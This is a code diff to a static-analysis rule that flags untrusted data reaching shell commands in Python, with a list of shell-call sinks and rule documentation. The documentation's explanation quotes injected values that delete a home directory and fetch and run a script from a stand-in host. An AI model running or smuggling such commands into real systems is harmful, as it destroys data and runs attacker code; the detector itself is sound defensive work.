@@ -2,7 +2,7 @@ import type { Node } from '../../engine/parser';
 import { defineRule } from '../../engine/rule';
 import { SinkKind } from '../../engine/taint';
 import { callArgs, isTrue, unparen } from '../../engine/syntax';
-import { reportFlows } from './report';
+import { FLOW_NOTE, reportFlows } from './report';
 
 const SHELL_CALLS = new Set(['os.system', 'os.popen', 'os.popen2', 'os.popen3', 'os.popen4', 'subprocess.getoutput', 'subprocess.getstatusoutput', 'commands.getoutput', 'asyncio.create_subprocess_shell', 'pty.spawn']);
 const SUBPROCESS_CALLS = new Set(['subprocess.run', 'subprocess.call', 'subprocess.check_call', 'subprocess.check_output', 'subprocess.Popen', 'asyncio.create_subprocess_exec']);
@@ -44,7 +44,7 @@ export default defineRule({
     if (program) reportFlows(ctx, program, program, SinkKind.command, `the program run by ${label}`);
   },
   docs: {
-    what: 'Reports untrusted data (request data, route parameters, `sys.argv`, `input()`, the environment) that reaches a command run through a shell (`os.system`, `os.popen`, `subprocess.*(..., shell=True)`, `asyncio.create_subprocess_shell`) or that chooses the program a `subprocess`/`os.exec*` call runs. `shlex.quote()` makes a value safe inside a shell command; arguments of a list-form command without a shell are not reported. SEC602 and its relatives still report shell use with constant commands; this rule says when a user controls the command.',
+    what: 'Reports untrusted data (request data, route parameters, `sys.argv`, `input()`, the environment) that reaches a command run through a shell (`os.system`, `os.popen`, `subprocess.*(..., shell=True)`, `asyncio.create_subprocess_shell`) or that chooses the program a `subprocess`/`os.exec*` call runs. `shlex.quote()` makes a value safe inside a shell command; arguments of a list-form command without a shell are not reported. SEC602 and its relatives still report shell use with constant commands; this rule says when a user controls the command.' + FLOW_NOTE,
     why: 'A shell parses its command line: `; rm -rf ~`, `$(curl evil.sh | sh)` or a backquote in a value from a request runs the attacker\'s commands with the server\'s rights.',
     example: `import subprocess
 from flask import request
